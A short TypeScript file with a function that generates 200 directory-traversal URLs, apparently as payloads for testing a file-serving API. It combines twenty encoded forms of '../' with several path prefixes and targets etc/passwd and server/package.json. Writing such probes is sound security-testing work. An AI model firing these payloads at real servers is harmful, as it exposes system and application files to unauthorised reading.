/** Two hundred ways of spelling an address that is to lead out of the folder it begins in. */
export function traversals(): string[] {
  const places = ['/api/public/files/small/', '/api/public/files/', '/api/public/download/', '/assets/', '/'];
  const ups = [
    '../',
    '..%2f',
    '%2e%2e/',
    '%2e%2e%2f',
    '%2e%2e%5c',
    '..\\',
    '..%5c',
    '%252e%252e%252f',
    '..%252f',
    '....//',
    '..;/',
    '..%00/',
    '.%2e/',
    '%c0%ae%c0%ae/',
    '..%c0%af',
    '%u002e%u002e/',
    '//../',
    './../',
    '..//',
    '%2e%2e%2f%2e/',
  ];
  const targets = ['etc/passwd', 'server/package.json'];
  // One segment to a router, a whole way to whoever takes it apart afterwards.
  const behind = (up: string, target: string) => (up.includes('%2f') ? target.replace('/', '%2f') : target);
  return places.flatMap((place) =>
    ups.flatMap((up) => targets.map((target) => place + up.repeat(7) + behind(up, target))),
  );
}
